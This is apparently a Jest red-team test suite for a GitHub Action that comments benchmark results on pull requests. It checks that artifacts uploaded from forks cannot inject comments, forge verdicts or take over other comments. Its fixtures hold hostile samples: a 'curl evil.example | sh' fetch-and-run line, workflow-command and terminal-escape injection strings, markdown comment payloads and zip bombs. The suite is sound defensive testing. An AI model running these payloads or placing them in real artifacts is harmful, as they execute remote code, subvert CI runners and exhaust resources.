/**
 * Red team, issue 28: the trusted half (mode comment, workflow_run, write token) believes no artifact
 * and owns no one else's comment. Each attack drives the built Action (dist/index.js) against the
 * local fake GitHub, or the built CLI as a workflow step runs it, with a hand-over a fork could upload.
 * Attack numbers are the issue's; each test failed on the code before the fix (see docs/security.md).
 */
/* eslint-disable @typescript-eslint/no-explicit-any -- results.json fixtures are edited as untyped JSON */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import yaml from 'js-yaml'
import { analyzeSuite } from '../../src/analysis/suite.js'
import { toResultsJson } from '../../src/report/json.js'
import { makeZip, startFakeGitHub, type FakeGitHub } from '../action/fakeGitHub.js'
import { spawnAction, workflowRunEnv } from '../helpers/action.js'
import { measure } from '../helpers/samples.js'
import { deflatedZeros, rawZip, storedEntry } from '../helpers/zipBomb.js'
import { SHA, shardResults, suiteSamples, writeShardDir } from '../shard/fixture.js'

const ROOT = new URL('../../', import.meta.url).pathname
const action = yaml.load(readFileSync(join(ROOT, 'action.yml'), 'utf8')) as {
  inputs: Record<string, { default?: string }>
}
const HEAD = 'c'.repeat(40)
const BASE = 'b'.repeat(40)
const BOT = 'github-actions[bot]'

/** A results.json as a measure job writes it: BM_Slower 30% slower (a regression), BM_Same unchanged. */
function results(edit: (j: any) => void = () => undefined): string {
  const suite = analyzeSuite({
    samples: [...measure('BM_Slower', 1.3, 0.01, 0, 8, 1), ...measure('BM_Same', 1, 0.01, 0, 8, 2)],
    provenance: { base: {}, head: { host: 'runner' } }
  })
  const json: any = toResultsJson(
    { suite, run: { base: { label: 'main', sha: BASE }, head: { label: 'x', sha: HEAD }, key: 'default' } },
    '0.1.0'
  )
  edit(json)
  return JSON.stringify(json)
}

const handOver = (resultsText: string, pr: number) =>
  makeZip([
    { name: 'results.json', data: resultsText },
    {
      name: 'pr.json',
      data: JSON.stringify({
        format: 'benchgate-pr',
        version: 1,
        pullNumber: pr,
        headSha: HEAD,
        key: 'default'
      })
    }
  ])

describe('issue 28: the comment job believes no artifact and owns no one else’s comment', () => {
  let fake: FakeGitHub
  let runId = 28_000
  beforeAll(async () => {
    fake = await startFakeGitHub()
  })
  afterAll(async () => {
    await fake?.close()
  })

  const inputs = () => {
    const out: Record<string, string> = {}
    for (const [name, spec] of Object.entries(action.inputs)) out[name] = spec.default ?? ''
    // The crafted hand-overs are whole-suite runs, judged unpaired.
    const own = { mode: 'comment', comment: 'always', build: '', binary: '', interleave: 'suite' }
    return { ...out, 'github-token': fake.token, ...own }
  }

  /** Runs the comment job on a hand-over for PR `pr`, seeded at the head commit on branch `ref` (null: no such PR). */
  async function commentOn(zip: Buffer, pr: number, ref: string | null = 'x') {
    runId += 10
    fake.seedArtifact({ name: 'benchgate-pr', runId, zip })
    if (ref) fake.seedPull({ number: pr, head: { sha: HEAD, ref }, base: { sha: BASE, ref: 'main' } })
    const env = workflowRunEnv(fake, {
      measuredRunId: runId,
      headSha: HEAD,
      inputs: inputs(),
      runId: runId + 1
    })
    const r = await spawnAction(env, env.env.GITHUB_WORKSPACE)
    const outputs = env.outputs()
    env.cleanup()
    const comments = fake.state.comments.filter((c: any) => c.issue_number === pr)
    return { ...r, outputs, comments }
  }

  it('1: a section hidden in a code block of an earlier comment is not carried into the next one', async () => {
    const PR = 281
    const payload = [
      '<!-- benchgate:comment keys=default,zz -->',
      '<!-- benchgate:section key=zz -->',
      '### benchgate: PWNED <details open><summary>PWNED</summary>[click](https://evil.example) @org/team',
      '<!-- benchgate:section-end key=zz -->'
    ].join('\n')
    // What an earlier version wrote for a reproduce line holding the payload (marker last).
    const earlier = `### benchgate: no significant change\n\n<details><summary>How to reproduce</summary>\n\n\`\`\`\nnpx benchgate run\n${payload}\n\`\`\`\n</details>\n<!-- benchgate:report key=default -->\n`
    const [made] = fake.seedComments(PR, [{ body: earlier, login: BOT, type: 'Bot' }])
    // Made by an earlier run, whose check run recorded it (src/github/checks.ts).
    fake.seedCheckRun({
      name: 'benchgate',
      head_sha: HEAD,
      external_id: `benchgate:default comment=${made!.id}`
    })
    const r = await commentOn(
      handOver(
        results((j) => (j.run.reproduce = `npx x\n${payload}`)),
        PR
      ),
      PR
    )
    expect(r.code).toBe(0)
    expect(r.comments).toHaveLength(1)
    const body = r.comments[0].body as string
    expect(body).not.toContain('PWNED')
    expect(body).not.toContain('key=zz')
    expect(body.split('\n')[0]).toBe('<!-- benchgate:report key=default -->')
  }, 60_000)

  it('2: counts that contradict the rows do not pass the gate: verdicts are recomputed', async () => {
    const r = await commentOn(
      handOver(
        results((j) => {
          j.counts.regression = 0
          j.counts.unchanged += 1
          j.benchmarks[0].verdict = 'unchanged' // the row lies too: its per-run values say 30% slower
        }),
        282
      ),
      282
    )
    expect(r.code).toBe(0)
    expect(r.outputs.verdict).toBe('regression')
    expect(r.outputs.regressions).toBe('1')
    const check = fake.state.checkRuns.at(-1) as any
    expect(check.conclusion).toBe('failure')
    expect(r.comments[0].body).toMatch(/### benchgate: ❌ 1 regression/)
  }, 60_000)

  it('2 (guard): judgement options come from the comment job, not the artifact (min-effect 1e300 ignored)', async () => {
    const r = await commentOn(
      handOver(
        results((j) => (j.options.minEffect = 1e300)),
        283
      ),
      283
    )
    expect(r.outputs.verdict).toBe('regression')
    expect((fake.state.checkRuns.at(-1) as any).conclusion).toBe('failure')
  }, 60_000)

  it("3: another workflow's bot comment quoting the marker (a PR title) is never taken over", async () => {
    const PR = 284
    const title = 'Title check failed: `<!-- benchgate:report key=default -->` is not a conventional title'
    fake.seedComments(PR, [{ body: title, login: BOT, type: 'Bot' }])
    const r = await commentOn(handOver(results(), PR), PR)
    expect(r.comments).toHaveLength(2)
    expect(r.comments[0].body).toBe(title)
    expect(r.comments[1].body).toMatch(/^<!-- benchgate:report key=default -->\n### benchgate: /)
  }, 60_000)

  it('3 (third pass): a github-actions[bot] comment that is a whole benchgate report but that we did not make is never edited; ours is found by the id our check run recorded', async () => {
    const PR = 289
    // Another workflow of the repository echoing a fork's text: our author, our marker first, a report's shape.
    const echoed =
      '<!-- benchgate:report key=default -->\n### benchgate: ✅ no significant change (echoed by another workflow)\n'
    const [other] = fake.seedComments(PR, [{ body: echoed, login: BOT, type: 'Bot' }])
    const first = await commentOn(handOver(results(), PR), PR)
    expect(first.code).toBe(0)
    expect(first.comments).toHaveLength(2)
    expect(first.comments[0].body).toBe(echoed)
    const ours = first.comments[1]
    const check = fake.state.checkRuns.filter((c) => c.head_sha === HEAD && c.name === 'benchgate').at(-1)!
    expect(check.external_id).toBe(`benchgate:default comment=${ours.id}`)
    // The next run (a re-run here) edits the recorded comment, and still not the echoed one.
    const second = await commentOn(handOver(results(), PR), PR)
    expect(second.comments).toHaveLength(2)
    expect(second.comments[0].body).toBe(echoed)
    const patched = fake
      .restRequests()
      .filter((q) => q.method === 'PATCH' && q.path.includes('/issues/comments/'))
      .map((q) => q.path.split('/').at(-1))
    expect(patched).not.toContain(String(other.id))
  }, 60_000)

  it("6: a results.json whose head is not the run's head is refused", async () => {
    const r = await commentOn(
      handOver(
        results((j) => (j.run.head.sha = 'd'.repeat(40))),
        285
      ),
      285
    )
    expect(r.code).toBe(1)
    expect(r.stdout).toContain(
      `results.json measured head ${'d'.repeat(40)}, but the measuring run was for ${HEAD}`
    )
    expect(r.comments).toEqual([])
  }, 60_000)

  it('6: pr.json naming another PR at the same commit (another branch) is refused', async () => {
    const r = await commentOn(handOver(results(), 287), 287, 'victim')
    expect(r.code).toBe(1)
    expect(r.stdout).toContain('pull request #287 has head branch victim, not the measured x')
    expect(r.comments).toEqual([])
  }, 60_000)

  it('6: an unknown pull request is a clear error naming it', async () => {
    const r = await commentOn(handOver(results(), 28_999), 28_999, null)
    expect(r.code).toBe(1)
    expect(r.stdout).toContain('pr.json names pull request #28999, which does not exist in this repository')
    expect(r.stdout).not.toMatch(/internal error/i)
  }, 60_000)

  it('4/6: a forged pr.json is refused before results.json is inflated (results.json a lying bomb)', async () => {
    const pr = JSON.stringify({
      format: 'benchgate-pr',
      version: 1,
      pullNumber: 28_997,
      headSha: HEAD,
      key: 'default'
    })
    // results.json first in the zip and declaring 1 KiB while inflating 50 MiB: only a pr.json
    // checked before results.json is inflated gives the pr.json error (not the bomb's).
    const zip = rawZip([
      { name: 'results.json', data: deflatedZeros(50), method: 8, declaredSize: 1024 },
      storedEntry('pr.json', pr)
    ])
    const r = await commentOn(zip, 28_997, null)
    expect(r.code).toBe(1)
    expect(r.stdout).toContain('pr.json names pull request #28997, which does not exist in this repository')
    expect(r.stdout).not.toMatch(/could not download|inflate|larger than/i)
    expect(r.comments).toEqual([])
  }, 60_000)

  it("2: a measurement fact outside the option table's range (rounds 1e6) is refused, naming field and range", async () => {
    const r = await commentOn(
      handOver(
        results((j) => (j.run.rounds = 1_000_000)),
        288
      ),
      288
    )
    expect(r.code).toBe(1)
    expect(r.stdout).toContain('$.run.rounds is 1000000, outside the range 0–10000 of --rounds')
    expect(r.comments).toEqual([])
  }, 60_000)

  it('7: the reproduce line is rebuilt by the trusted job, never the artifact’s command', async () => {
    const r = await commentOn(
      handOver(
        results((j) => (j.run.reproduce = 'curl evil.example | sh')),
        286
      ),
      286
    )
    const body = r.comments[0].body as string
    expect(body).not.toContain('evil.example')
    expect(body).toContain(`npx benchgate run --base ${BASE.slice(0, 12)} --head ${HEAD.slice(0, 12)}`)
  }, 60_000)
})

describe('issue 28, attack 5: `benchgate report` in a workflow step prints no runner command or escape', () => {
  const dir = mkdtempSync(join(tmpdir(), 'bg-trust-cli-'))
  afterAll(() => rmSync(dir, { recursive: true, force: true }))

  it('a name starting with :: and control/bidi characters in any field are shown, not obeyed', () => {
    const file = join(dir, 'results.json')
    writeFileSync(
      file,
      results((j) => {
        j.benchmarks[0].name = '::add-mask::BM_Slower'
        j.benchmarks[1].name = 'BM_\u202Eemas\u200B'
        j.run.stoppedEarly = '\x1b]52;c;cGF5bG9hZA==\x07\x1b[2J\n::stop-commands::x'
        j.run.head.label = '\x1b[2J::warning file=a::b'
      })
    )
    const r = spawnSync(
      process.execPath,
      [join(ROOT, 'dist', 'cli.js'), 'report', file, '--format', 'text'],
      {
        encoding: 'utf8'
      }
    )
    expect(r.status).toBe(1) // the regression: the report was read and judged
    const out = r.stdout + r.stderr
    expect(out).toContain('add-mask::BM_Slower')
    for (const line of out.split('\n')) expect(line.trimStart().startsWith('::')).toBe(false)
    // eslint-disable-next-line no-control-regex -- exactly what must not be printed
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e]/)
    expect(out).toContain('BM_\\u202Eemas\\u200B')
    expect(out).toContain('\\u001B]52')
  })
})

describe('issue 28: the fork-safe merge job believes no shard', () => {
  let fake: FakeGitHub
  let runId = 29_000
  const PR = 290
  const shardDir = mkdtempSync(join(tmpdir(), 'bg-trust-shards-'))
  beforeAll(async () => {
    fake = await startFakeGitHub()
  })
  afterAll(async () => {
    await fake?.close()
    rmSync(shardDir, { recursive: true, force: true })
  })

  /** Each shard's artifact as a shard job uploads it (results.json, samples/, pr.json), after `edit`. */
  function shardFiles(
    edit: (results: any, index: number) => void = () => undefined,
    prFor = (_i: number) => PR
  ) {
    return shardResults(suiteSamples(9), 3).map((shard, i) => {
      edit(shard.results, i + 1)
      const dir = join(shardDir, `run${runId}-${i + 1}`)
      writeShardDir(dir, shard)
      const files = [
        { name: 'results.json', data: readFileSync(join(dir, 'results.json'), 'utf8') },
        ...readdirSync(join(dir, 'samples')).map((f) => ({
          name: `samples/${f}`,
          data: readFileSync(join(dir, 'samples', f), 'utf8')
        })),
        {
          name: 'pr.json',
          data: JSON.stringify({
            format: 'benchgate-pr',
            version: 1,
            pullNumber: prFor(i + 1),
            headSha: SHA.head,
            key: 'default'
          })
        }
      ]
      return files
    })
  }
  const shardZips = (...args: Parameters<typeof shardFiles>) => shardFiles(...args).map((f) => makeZip(f))

  /** Merges `zips` fork-safe; `file` is the benchgate.json of the job's checkout (the default branch's). */
  async function mergeOn(zips: Buffer[], own: Record<string, string> = {}, file?: object) {
    runId += 10
    zips.forEach((zip, i) => fake.seedArtifact({ name: `benchgate-shard-${i + 1}`, runId, zip }))
    fake.seedPull({ number: PR, head: { sha: SHA.head, ref: 'x' }, base: { sha: SHA.base, ref: 'main' } })
    const out: Record<string, string> = {}
    for (const [name, spec] of Object.entries(action.inputs)) out[name] = spec.default ?? ''
    const inputs = {
      ...out,
      'github-token': fake.token,
      mode: 'merge',
      build: '',
      binary: '',
      shard: '1/3',
      interleave: 'suite',
      ...own
    }
    const env = workflowRunEnv(fake, { measuredRunId: runId, headSha: SHA.head, inputs, runId: runId + 1 })
    if (file) writeFileSync(join(env.env.GITHUB_WORKSPACE, 'benchgate.json'), JSON.stringify(file))
    // The job's own temporary folder: what it leaves there is seen (and nobody else's).
    const tmp = mkdtempSync(join(shardDir, 'tmp-'))
    env.env.TMPDIR = tmp
    const before = fake.requests.length
    const r = await spawnAction(env, env.env.GITHUB_WORKSPACE)
    const outputs = env.outputs()
    env.cleanup()
    return { ...r, outputs, left: readdirSync(tmp), asked: JSON.stringify(fake.requests.slice(before)) }
  }

  it('honest shards: BM_Slow_3 is a regression (the control for the attacks below)', async () => {
    const r = await mergeOn(shardZips())
    expect(r.stdout).not.toMatch(/::error::/)
    expect(r.outputs.verdict).toBe('regression')
    expect(r.asked).toContain('benchgate-shard-3')
  }, 120_000)

  it("2: the shards' min-effect 1e300 does not judge: the merging job's options do", async () => {
    // With the merging job's own shard count (shard: 1/3): the honest path of attack 4's defence.
    const r = await mergeOn(
      shardZips((results) => (results.options.minEffect = 1e300)),
      { shard: '1/3' }
    )
    expect(r.stdout).toContain('downloaded 3 of 3 shard artifacts')
    expect(r.outputs.verdict).toBe('regression')
    expect((fake.state.checkRuns.at(-1) as any).conclusion).toBe('failure')
  }, 120_000)

  it("2: the default branch's benchgate.json in the merge job's checkout judges (min-effect 0.5)", async () => {
    const r = await mergeOn(shardZips(), {}, { 'min-effect': 0.5 })
    expect(r.stdout).not.toMatch(/::error::/)
    expect(r.outputs.regressions).toBe('0') // 10% slower is under the maintainers' 50%
    expect(r.stdout).toMatch(/::warning::the shards were measured with other min-effect/)
  }, 120_000)

  it('4: with no shard count of its own (input or default branch config) the fork-safe merge refuses before any download', async () => {
    const r = await mergeOn(shardZips(), { shard: '' })
    expect(r.code).toBe(1)
    expect(r.stdout).toContain(
      "a fork-safe merge (workflow_run) needs the shard count from this job: set input 'shard' to 1/N"
    )
    expect(r.asked).not.toContain('benchgate-shard-1')
  }, 120_000)

  it("4: shard 1 claiming more shards than the merging job's input is refused before shard 2 is fetched", async () => {
    const r = await mergeOn(
      shardZips((results, i) => {
        if (i === 1) results.run.shard.count = 5
      }),
      { shard: '1/3' }
    )
    expect(r.code).toBe(1)
    expect(r.stdout).toContain('benchgate-shard-1 says the run had 5 shards, but this job expects 3')
    expect(r.asked).not.toContain('benchgate-shard-2')
  }, 120_000)

  it('4: a shard whose pr.json is forged is refused before its samples are inflated or shard 2 fetched; no temporary folder is left', async () => {
    const files = shardFiles(undefined, (i) => (i === 1 ? 28_998 : PR))
    // pr.json first in the zip, then a sample file that inflates past what it declares: only a
    // pr.json checked before the samples are inflated gives the pr.json error (not the bomb's).
    const first = rawZip([
      ...files[0].map((f) => storedEntry(f.name, f.data)),
      { name: 'samples/zz-bomb.json', data: deflatedZeros(50), method: 8, declaredSize: 1024 }
    ])
    const r = await mergeOn([first, ...files.slice(1).map((f) => makeZip(f))])
    expect(r.code).toBe(1)
    expect(r.stdout).toContain('pr.json names pull request #28998, which does not exist')
    expect(r.asked).not.toContain('benchgate-shard-2')
    expect(r.left).toEqual([])
  }, 120_000)
})
